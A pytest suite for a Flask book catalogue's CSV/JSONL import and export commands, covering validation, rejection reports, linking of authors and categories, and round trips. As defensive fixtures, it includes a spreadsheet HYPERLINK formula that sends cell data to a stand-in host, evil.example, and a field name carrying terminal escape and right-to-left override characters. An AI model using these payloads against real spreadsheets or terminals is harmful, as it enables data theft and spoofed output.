"""``flask books import`` and ``flask books export`` against the real database."""
import csv
import json

import pytest
from sqlalchemy import select, text

from bookapi.books import transfer
from bookapi.books.models import Book
from bookapi.books.schemas import book_schema
from bookapi.extensions import db
from tests.factories import BookFactory, BookPayload

FIELDS = ["title", "author", "isbn", "published_date", "description"]
EXPORT_COLUMNS = [
    "id", "title", "author", "isbn", "isbn13", "published_date", "description", "categories", "average_rating",
    "review_count", "created_by", "created_at", "updated_at",
]
# The columns that the API shows the same way.
AS_THE_API_SHOWS = ["id", "title", "isbn", "isbn13", "published_date", "description", "created_by", "created_at",
                    "updated_at"]


def write_csv(path, rows, fields=FIELDS):
    with open(path, "w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fields)
        writer.writeheader()
        writer.writerows(rows)
    return str(path)


def write_jsonl(path, records):
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    return str(path)


def stored_books():
    """Every book, in id order, as the fields a file carries plus isbn13."""
    books = db.session.scalars(select(Book).order_by(Book.id))
    return [(b.title, b.author, b.isbn, b.isbn13, b.published_date.isoformat(), b.description) for b in books]


def all_books():
    return db.session.scalars(select(Book).order_by(Book.id)).all()


def empty_catalogue():
    db.session.execute(text("TRUNCATE books RESTART IDENTITY CASCADE"))
    db.session.commit()


def test_import_csv_adds_valid_rows(runner, tmp_path):
    rows = [BookPayload(), BookPayload(isbn="0-306-40615-2"), BookPayload(description="")]

    result = runner.invoke(args=["books", "import", write_csv(tmp_path / "books.csv", rows)])

    assert result.exit_code == 0, result.output
    assert "Imported 3 books, rejected 0." in result.output
    assert stored_books() == [
        (rows[0]["title"], rows[0]["author"], rows[0]["isbn"], rows[0]["isbn"], rows[0]["published_date"],
         rows[0]["description"]),
        (rows[1]["title"], rows[1]["author"], "0306406152", "9780306406157", rows[1]["published_date"],
         rows[1]["description"]),
        (rows[2]["title"], rows[2]["author"], rows[2]["isbn"], rows[2]["isbn"], rows[2]["published_date"], None),
    ]


def test_import_jsonl_adds_valid_rows(runner, tmp_path):
    records = [BookPayload(), BookPayload(description=None)]
    path = tmp_path / "books.jsonl"
    path.write_text(json.dumps(records[0]) + "\n\n" + json.dumps(records[1]) + "\n", encoding="utf-8")

    result = runner.invoke(args=["books", "import", str(path)])

    assert result.exit_code == 0, result.output
    assert "Imported 2 books, rejected 0." in result.output
    assert [(b.isbn, b.title, b.description) for b in all_books()] == [
        (records[0]["isbn"], records[0]["title"], records[0]["description"]),
        (records[1]["isbn"], records[1]["title"], None),
    ]


@pytest.mark.parametrize("changes, reason", [
    ({"title": "   "}, "title: Length must be between 1 and 255."),
    ({"isbn": "978-0-306-40615-8"}, "isbn: ISBN-13 check digit is wrong."),
    ({"published_date": "2021-02-30"}, "published_date: Not a valid date."),
    ({"genre": "poetry"}, "genre: Unknown field."),
    ({"author_ids": [1]}, "author_ids: Unknown field."),
    ({"isbn": "0-13-110362-8"}, "Duplicate of line 1 (ISBN 9780131103627)."),
    ({"isbn": "978-0-306-40615-7"}, "ISBN 9780306406157 already exists."),
], ids=["blank-title", "wrong-check-digit", "impossible-date", "unknown-column", "ids-not-names", "repeats-line-1",
        "in-catalogue"])
def test_import_rejects_invalid_row_with_line_and_reason(runner, tmp_path, changes, reason):
    BookFactory(isbn="0306406152")
    first, last = BookPayload(isbn="9780131103627"), BookPayload()
    path = write_jsonl(tmp_path / "books.jsonl", [first, {**BookPayload(), **changes}, last])

    result = runner.invoke(args=["books", "import", path])

    assert result.exit_code == 0, result.output
    assert "Imported 2 books, rejected 1." in result.output
    assert f"  line 2: {reason}\n" in result.output
    assert [b.isbn for b in all_books()] == ["0306406152", first["isbn"], last["isbn"]]


def test_import_csv_rejects_row_with_more_cells_than_the_header(runner, tmp_path):
    path = tmp_path / "books.csv"
    path.write_text("title,author,isbn,published_date\nDune,Frank Herbert,9780441013593,1965-08-01,extra\n")

    result = runner.invoke(args=["books", "import", str(path)])

    assert result.exit_code == 0
    assert "line 2: Has 5 fields where the header has 4." in result.output
    assert all_books() == []


def test_import_csv_numbers_rows_by_the_line_they_start_on(runner, tmp_path):
    path = tmp_path / "books.csv"
    path.write_text(
        "title,author,isbn,published_date,description\n"
        "\n"
        'Dune,Frank Herbert,9780441013593,1965-08-01,"Spice.\nSand."\n'
        "Emma,Jane Austen,9780141439587,1815-12-23,\n"
        "Emma,Jane Austen,9780141439587,1815-12-23,\n"
    )

    result = runner.invoke(args=["books", "import", str(path)])

    assert result.exit_code == 0
    assert "  line 6: Duplicate of line 5 (ISBN 9780141439587)." in result.output
    assert [b.description for b in all_books()] == ["Spice.\nSand.", None]


@pytest.mark.parametrize("line, reason", [
    ('{"title": "Dune",', "Not valid JSON: "),
    ('["Dune", "Frank Herbert"]', "Not a JSON object."),
], ids=["malformed", "array"])
def test_import_jsonl_rejects_line_that_is_no_json_object(runner, tmp_path, line, reason):
    path = tmp_path / "books.jsonl"
    path.write_text(line + "\n")

    result = runner.invoke(args=["books", "import", str(path)])

    assert result.exit_code == 0
    assert f"line 1: {reason}" in result.output


def test_import_across_batches_loads_every_row_and_catches_repeats(runner, tmp_path):
    books = [BookPayload() for _ in range(4)]
    records = [books[0], books[1], books[2], {**books[3], "isbn": books[2]["isbn"]}, books[3],
               {**BookPayload(), "isbn": books[0]["isbn"]}, BookPayload(title="")]

    result = runner.invoke(args=["books", "import", "--batch-size", "2", write_jsonl(tmp_path / "b.jsonl", records)])

    assert result.exit_code == 0, result.output
    assert "Imported 4 books, rejected 3." in result.output
    assert "  line 4: Duplicate of line 3" in result.output
    assert "  line 6: Duplicate of line 1" in result.output
    assert "  line 7: title: " in result.output
    assert [b.isbn for b in all_books()] == [book["isbn"] for book in books]


def test_import_shows_the_first_20_rejections_and_counts_the_rest(runner, tmp_path):
    path = write_jsonl(tmp_path / "books.jsonl", [BookPayload(title="") for _ in range(25)])

    result = runner.invoke(args=["books", "import", path])

    assert result.exit_code == 0
    assert "Imported 0 books, rejected 25." in result.output
    assert "  line 20: " in result.output
    assert "  line 21: " not in result.output
    assert "  ... and 5 more (--rejects FILE writes them all)." in result.output


def test_import_writes_every_rejection_to_the_rejects_file(runner, tmp_path):
    path = write_jsonl(tmp_path / "books.jsonl", [BookPayload(title="") for _ in range(22)] + [BookPayload()])
    rejects = tmp_path / "rejects.csv"

    result = runner.invoke(args=["books", "import", path, "--rejects", str(rejects)])

    assert result.exit_code == 0
    assert f"  ... and 2 more (all are in {rejects})." in result.output
    with open(rejects, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["line"] for row in rows] == [str(line) for line in range(1, 23)]
    assert rows[0]["reason"] == "title: Length must be between 1 and 255."


HOSTILE_KEY = "genre\nImported 999 books, rejected 0.\x1b]0;pwned\x07\u202e"
ESCAPED_REASON = "genre\\nImported 999 books, rejected 0.\\x1b]0;pwned\\x07\\u202e: Unknown field."


@pytest.fixture
def hostile_jsonl(tmp_path):
    """A file whose only book has an unknown field named with a line break, a terminal escape sequence and a
    right-to-left override."""
    return write_jsonl(tmp_path / "books.jsonl", [{**BookPayload(), HOSTILE_KEY: "x"}])


def test_import_prints_non_printable_characters_of_a_reason_escaped(runner, hostile_jsonl):
    result = runner.invoke(args=["books", "import", hostile_jsonl])

    assert result.exit_code == 0
    assert result.output.endswith(f"Imported 0 books, rejected 1.\n  line 1: {ESCAPED_REASON}\n")


def test_import_writes_non_printable_characters_of_a_reason_escaped_to_the_rejects_file(
        runner, hostile_jsonl, tmp_path):
    rejects = tmp_path / "rejects.csv"

    runner.invoke(args=["books", "import", hostile_jsonl, "--rejects", str(rejects)])

    with open(rejects, newline="", encoding="utf-8") as file:
        assert list(csv.DictReader(file)) == [{"line": "1", "reason": ESCAPED_REASON}]


def test_import_reads_stdin_with_format_option(runner):
    record = BookPayload()

    result = runner.invoke(args=["books", "import", "-", "--format", "jsonl"], input=json.dumps(record) + "\n")

    assert result.exit_code == 0, result.output
    assert [b.isbn for b in all_books()] == [record["isbn"]]


def test_import_format_option_overrides_the_extension(runner, tmp_path):
    path = write_csv(tmp_path / "books.txt", [BookPayload()])

    result = runner.invoke(args=["books", "import", path, "--format", "CSV"])

    assert result.exit_code == 0, result.output
    assert len(all_books()) == 1


@pytest.mark.parametrize("command", ["import", "export"])
def test_transfer_with_unknown_format_exits_with_usage_error(runner, tmp_path, command):
    path = tmp_path / "books.xml"
    path.write_text("<books/>")

    result = runner.invoke(args=["books", command, str(path)])

    assert result.exit_code == 2
    assert "Cannot tell the format of" in result.output
    assert "pass --format csv|jsonl" in result.output


def test_import_of_missing_file_exits_with_usage_error(runner, tmp_path):
    result = runner.invoke(args=["books", "import", str(tmp_path / "missing.csv")])

    assert result.exit_code == 2
    assert "does not exist" in result.output


def test_import_csv_rejects_row_with_a_field_longer_than_the_csv_module_reads_by_default(runner, tmp_path):
    rows = [BookPayload(description="x" * 200_000), BookPayload()]

    result = runner.invoke(args=["books", "import", write_csv(tmp_path / "books.csv", rows)])

    assert result.exit_code == 0, result.output
    assert "Imported 1 books, rejected 1." in result.output
    assert "  line 2: description: Longer than maximum length 10000.\n" in result.output
    assert [b.isbn for b in all_books()] == [rows[1]["isbn"]]


@pytest.mark.parametrize("content, problem", [
    (b"title,author\n\xff\xfe\n", "codec can't decode byte 0xff"),
    (b"title,description\nDune,x\nEmma,\"" + b"x" * (transfer.CSV_FIELD_LIMIT + 1),
     "line 3: field larger than field limit"),
], ids=["not-utf8", "field-over-the-limit"])
def test_import_of_unreadable_content_stops_with_message(runner, tmp_path, content, problem):
    path = tmp_path / "books.csv"
    path.write_bytes(content)

    result = runner.invoke(args=["books", "import", str(path)])

    assert result.exit_code == 1
    assert f"Error: Stopped reading {path}: " in result.output
    assert problem in result.output


def test_import_stopped_by_unreadable_content_keeps_and_reports_earlier_batches(runner, tmp_path):
    path = tmp_path / "books.jsonl"
    path.write_bytes(b"".join(json.dumps(BookPayload()).encode() + b"\n" for _ in range(200)) + b"\xff\n")

    result = runner.invoke(args=["books", "import", str(path), "--batch-size", "10"])

    assert result.exit_code == 1
    imported = len(all_books())
    assert 0 < imported < 200
    assert f"Imported {imported} books, rejected 0." in result.output


def test_import_of_csv_with_only_a_header_imports_nothing(runner, tmp_path):
    result = runner.invoke(args=["books", "import", write_csv(tmp_path / "books.csv", [])])

    assert result.exit_code == 0
    assert "Imported 0 books, rejected 0." in result.output


@pytest.mark.parametrize("name", ["books.csv", "books.jsonl"])
def test_export_then_import_restores_the_same_books(runner, tmp_path, name):
    BookFactory.create_batch(3)
    BookFactory(description=None, isbn="0131103628")
    before = stored_books()
    path = str(tmp_path / name)
    runner.invoke(args=["books", "export", path])
    empty_catalogue()

    result = runner.invoke(args=["books", "import", path])

    assert result.exit_code == 0, result.output
    assert "Imported 4 books, rejected 0." in result.output
    assert stored_books() == before


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcalc", "\rcalc"]
# Titles whose first characters a spreadsheet, or the defence against it, could take for something else.
TRICKY_TITLES = ["=1+1", "-", "@home", "'", "''", "'=1+1", "'Tis Pity She's a Whore"]
ESCAPING = pytest.mark.parametrize("escaping", [[], ["--no-escape-formulas"]], ids=["escaped", "not-escaped"])


def exported_csv_rows(runner, path, *options):
    runner.invoke(args=["books", "export", str(path), *options])
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def export_then_import(runner, path, *options):
    runner.invoke(args=["books", "export", str(path), *options])
    empty_catalogue()
    return runner.invoke(args=["books", "import", str(path), *options])


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "at", "plus", "minus", "tab", "carriage-return"])
def test_export_csv_puts_an_apostrophe_before_a_cell_a_spreadsheet_would_run(runner, tmp_path, formula):
    BookFactory(title=formula, description=formula)

    rows = exported_csv_rows(runner, tmp_path / "books.csv")

    assert (rows[0]["title"], rows[0]["description"]) == ("'" + formula, "'" + formula)


def test_export_csv_without_escaping_formulas_writes_them_as_they_are(runner, tmp_path):
    BookFactory(title=FORMULAS[0])

    rows = exported_csv_rows(runner, tmp_path / "books.csv", "--no-escape-formulas")

    assert rows[0]["title"] == FORMULAS[0]


@ESCAPING
def test_export_then_import_csv_restores_titles_that_start_like_formulas_or_with_apostrophes(
        runner, tmp_path, escaping):
    for title in TRICKY_TITLES:
        BookFactory(title=title)

    result = export_then_import(runner, tmp_path / "books.csv", *escaping)

    assert result.exit_code == 0, result.output
    assert [book.title for book in all_books()] == TRICKY_TITLES


@ESCAPING
def test_export_then_import_csv_keeps_an_empty_description_apart_from_none(runner, tmp_path, escaping):
    BookFactory(description="")
    BookFactory(description=None)

    result = export_then_import(runner, tmp_path / "books.csv", *escaping)

    assert result.exit_code == 0, result.output
    assert [book.description for book in all_books()] == ["", None]


def test_import_csv_reads_a_lone_apostrophe_as_an_empty_text_and_an_empty_cell_as_none(runner, tmp_path):
    path = write_csv(tmp_path / "books.csv", [BookPayload(description="'"), BookPayload(description="")])

    runner.invoke(args=["books", "import", path])

    assert [book.description for book in all_books()] == ["", None]


def test_import_csv_takes_off_only_an_apostrophe_that_export_puts_in_front(runner, tmp_path):
    titles = ["'=1+1", "''", "'Tis Pity She's a Whore"]
    path = write_csv(tmp_path / "books.csv", [BookPayload(title=title) for title in titles])

    runner.invoke(args=["books", "import", path])

    assert [book.title for book in all_books()] == ["=1+1", "'", "'Tis Pity She's a Whore"]


def test_import_csv_without_escaping_formulas_keeps_an_apostrophe_before_a_formula(runner, tmp_path):
    path = write_csv(tmp_path / "books.csv", [BookPayload(title="'=1+1")])

    runner.invoke(args=["books", "import", path, "--no-escape-formulas"])

    assert [book.title for book in all_books()] == ["'=1+1"]


def test_import_writes_a_reason_a_spreadsheet_would_run_with_an_apostrophe_in_front(runner, tmp_path):
    path = write_jsonl(tmp_path / "books.jsonl", [{**BookPayload(), FORMULAS[0]: "x"}])
    rejects = tmp_path / "rejects.csv"

    runner.invoke(args=["books", "import", path, "--rejects", str(rejects)])

    with open(rejects, newline="", encoding="utf-8") as file:
        assert list(csv.DictReader(file))[0]["reason"] == f"'{FORMULAS[0]}: Unknown field."


@pytest.mark.parametrize("name, content", [
    ("books.csv", ",".join(EXPORT_COLUMNS) + "\r\n"),
    ("books.ndjson", ""),
])
def test_export_of_empty_catalogue_writes_no_books(runner, tmp_path, name, content):
    path = tmp_path / name

    result = runner.invoke(args=["books", "export", str(path)])

    assert result.exit_code == 0, result.output
    assert f"Exported 0 books to {path}." in result.output
    assert path.read_bytes().decode() == content


def test_export_csv_writes_every_column_in_id_order(runner, tmp_path):
    books = BookFactory.create_batch(2)
    path = tmp_path / "books.csv"

    runner.invoke(args=["books", "export", str(path)])

    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == EXPORT_COLUMNS
    assert [row["id"] for row in rows] == [str(book.id) for book in books]
    assert rows[0]["created_at"] == books[0].created_at.isoformat()


def test_export_jsonl_to_stdout_writes_books_as_the_api_shows_them(runner):
    books = BookFactory.create_batch(2)

    result = runner.invoke(args=["books", "export", "-", "--format", "jsonl"])

    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [list(record) for record in records] == [EXPORT_COLUMNS] * 2
    assert [{key: record[key] for key in AS_THE_API_SHOWS} for record in records] == [
        {key: book_schema.dump(book)[key] for key in AS_THE_API_SHOWS} for book in books
    ]
    assert "Exported 2 books to -." in result.stderr


def links():
    """Each book's byline, its authors' names in order and its categories' names, in id order."""
    return db.session.execute(text(
        "SELECT b.author, "
        "(SELECT array_agg(a.name ORDER BY ba.position) FROM book_authors ba JOIN authors a ON a.id = ba.author_id "
        " WHERE ba.book_id = b.id), "
        "(SELECT array_agg(c.name ORDER BY c.name) FROM book_categories bc JOIN categories c ON c.id = bc.category_id "
        " WHERE bc.book_id = b.id) "
        "FROM books b ORDER BY b.id")).all()


def names_of(table):
    return db.session.scalars(text(f"SELECT name FROM {table} ORDER BY id")).all()


LINKED = FIELDS + ["categories"]


def test_import_links_a_book_to_each_author_of_its_author_cell_first_author_first(runner, tmp_path):
    path = write_csv(tmp_path / "books.csv", [BookPayload(author="Terry Pratchett; Neil Gaiman ;")])

    runner.invoke(args=["books", "import", path])

    assert links() == [("Terry Pratchett, Neil Gaiman", ["Terry Pratchett", "Neil Gaiman"], None)]


def test_import_links_to_an_author_of_the_same_name_and_makes_only_the_missing_ones(runner, tmp_path):
    db.session.execute(text("INSERT INTO authors (name) VALUES ('Neil Gaiman')"))
    db.session.commit()
    rows = [BookPayload(author="Neil Gaiman"), BookPayload(author="Ann; Neil Gaiman")]
    path = write_csv(tmp_path / "books.csv", rows)

    runner.invoke(args=["books", "import", path])

    assert names_of("authors") == ["Neil Gaiman", "Ann"]
    assert db.session.scalars(text("SELECT book_count FROM authors ORDER BY id")).all() == [2, 1]


def test_import_links_categories_by_name_ignoring_case_and_makes_the_missing_ones(runner, tmp_path):
    db.session.execute(text("INSERT INTO categories (name) VALUES ('Fantasy')"))
    db.session.commit()
    path = write_csv(tmp_path / "books.csv", [BookPayload(categories="fantasy; Humour; HUMOUR"),
                                              BookPayload(categories="humour")], LINKED)

    runner.invoke(args=["books", "import", path])

    assert names_of("categories") == ["Fantasy", "Humour"]
    assert [categories for _, _, categories in links()] == [["Fantasy", "Humour"], ["Humour"]]


def test_import_links_only_the_books_it_adds(runner, tmp_path):
    book = BookFactory()
    path = write_csv(tmp_path / "books.csv", [BookPayload(isbn=book.isbn, author="Nobody", categories="Nothing")],
                     LINKED)

    runner.invoke(args=["books", "import", path])

    assert (names_of("authors"), names_of("categories")) == ([], [])


@pytest.mark.parametrize("changes, reason", [
    ({"author": " ; "}, "author: Must name at least one."),
    ({"author": "; ".join(letter * 100 for letter in "ABC")},
     "author: The names joined by ', ' must be 255 characters at most."),
    ({"categories": "C" * 101}, "categories: Length must be between 1 and 100."),
])
def test_import_rejects_a_row_whose_names_are_invalid(runner, tmp_path, changes, reason):
    path = write_csv(tmp_path / "books.csv", [BookPayload(**changes)], LINKED)

    result = runner.invoke(args=["books", "import", path])

    assert f"line 2: {reason}" in result.output


def test_export_writes_linked_authors_and_categories_and_the_ratings(runner, tmp_path):
    runner.invoke(args=["books", "import", write_csv(tmp_path / "in.csv", [
        BookPayload(author="Terry Pratchett; Neil Gaiman", categories="Humour; Fantasy")], LINKED)])
    db.session.execute(text("INSERT INTO reviews (book_id, user_id, rating) SELECT 1, id, 4 FROM users"))
    db.session.execute(text("INSERT INTO users (email, password_hash) VALUES ('x@example.com', '!')"))
    db.session.execute(text("INSERT INTO reviews (book_id, user_id, rating) SELECT 1, id, 5 FROM users"))
    db.session.commit()

    row = exported_csv_rows(runner, tmp_path / "out.csv")[0]

    assert (row["author"], row["categories"]) == ("Terry Pratchett; Neil Gaiman", "Fantasy; Humour")
    assert (row["average_rating"], row["review_count"]) == ("5.0", "1")


@pytest.mark.parametrize("name", ["books.csv", "books.jsonl"])
def test_export_then_import_restores_the_same_links(runner, tmp_path, name):
    runner.invoke(args=["books", "import", write_csv(tmp_path / "in.csv", [
        BookPayload(author="Terry Pratchett; Neil Gaiman", categories="Humour; Fantasy"),
        BookPayload(author="Neil Gaiman"),
    ], LINKED)])
    BookFactory(author="Unlinked Writer")
    before = links()
    path = str(tmp_path / name)
    runner.invoke(args=["books", "export", path])
    db.session.execute(text("TRUNCATE books, authors, categories RESTART IDENTITY CASCADE"))
    db.session.commit()

    result = runner.invoke(args=["books", "import", path])

    assert result.exit_code == 0, result.output
    assert links() == [*before[:2], ("Unlinked Writer", ["Unlinked Writer"], None)]
